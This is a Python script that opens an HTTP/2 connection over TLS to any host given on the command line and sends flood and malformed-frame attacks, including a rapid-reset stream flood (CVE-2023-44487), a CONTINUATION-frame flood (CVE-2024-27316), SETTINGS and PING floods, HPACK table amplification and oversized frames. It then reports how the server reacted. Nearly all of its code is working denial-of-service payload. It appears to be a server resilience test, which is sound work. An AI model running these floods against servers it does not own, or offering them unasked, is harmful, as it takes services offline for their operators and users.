"""What no decent HTTP/2 client does, frame by frame over TLS (RFC 9113; CVE-2023-44487, CVE-2024-27316).

    python3 http2_hostile.py HOST PORT PATH CASE

Prints how the server ended it: "goaway CODE", "closed", or "open" when it still answers.
"""

import json
import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
host, port, path, case = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode(), sys.argv[4]

context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
context.set_alpn_protocols(["h2"])
wire = context.wrap_socket(socket.create_connection((host, port), 10), server_hostname="localhost")
assert wire.selected_alpn_protocol() == "h2"
wire.settimeout(10)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(prefix, value):
    assert len(value) < 127
    return bytes([prefix, len(value)]) + value


def head(target=path, method=0x82):
    return bytes([method, 0x87]) + text(0x04, target) + text(0x01, b"localhost")


def request(stream, **named):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(**named))


def attack():
    """Yields pieces to send until the server has had enough."""
    if case == "resets":
        for number in range(20000):
            stream = 2 * number + 1
            yield request(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
    elif case == "continuations":
        yield frame(HEADERS, END_STREAM, 1, head())
        for number in range(20000):
            yield frame(CONTINUATION, 0, 1, b"\x00" + text(0, b"a%06d" % number)[1:] + text(0, b"b" * 100)[1:])
    elif case == "bodies":
        for number in range(200):
            stream = 2 * number + 1
            yield frame(HEADERS, END_HEADERS, stream, head(method=0x83))
            for _ in range(100):
                yield frame(DATA, 0, stream, b"x" * 16000)
    elif case == "settings":
        for _ in range(200000):
            yield frame(SETTINGS, 0, 0)
    elif case == "pings":
        for _ in range(200000):
            yield frame(PING, 0, 0, b"12345678")
    elif case == "streams":
        for number in range(5000):
            yield request(2 * number + 1)
    elif case == "compression":
        # A table that grows, and indexes into it: a few bytes that stand for many.
        value = b"v" * 100
        yield frame(HEADERS, END_STREAM | END_HEADERS, 1, head() + b"\x40" + text(0, b"name")[1:] + text(0, value)[1:])
        for number in range(1, 200):
            yield frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, head() + b"\xbe" * 16000)
    elif case == "nonsense":
        yield frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\xff" * 100)
    elif case == "huge":
        yield b"\xff\xff\xff" + bytes([HEADERS, 0]) + struct.pack(">I", 1)
    else:
        raise SystemExit(f"no such case: {case}")


def ended():
    """How the server answers, at last."""
    wire.settimeout(3)
    input_bytes, alive = b"", False
    while True:
        try:
            piece = wire.recv(65536)
        except (TimeoutError, socket.timeout):
            return "open" if alive else "silent"
        except OSError:
            return "closed"
        if not piece:
            return "closed"
        input_bytes += piece
        while len(input_bytes) >= 9:
            length = int.from_bytes(input_bytes[:3], "big")
            if len(input_bytes) < 9 + length:
                break
            kind, payload = input_bytes[3], input_bytes[9 : 9 + length]
            input_bytes = input_bytes[9 + length :]
            alive = True
            if kind == GOAWAY:
                return f"goaway {struct.unpack('>I', payload[4:8])[0]}"


wire.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
sent, broken = 0, False
started = time.monotonic()
try:
    for piece in attack():
        wire.sendall(piece)
        sent += len(piece)
        if time.monotonic() - started > 8:
            break
except OSError:
    broken = True
try:
    how = ended()
except OSError:
    how = "closed"
print(json.dumps({"case": case, "sent": sent, "broken": broken, "how": how}))
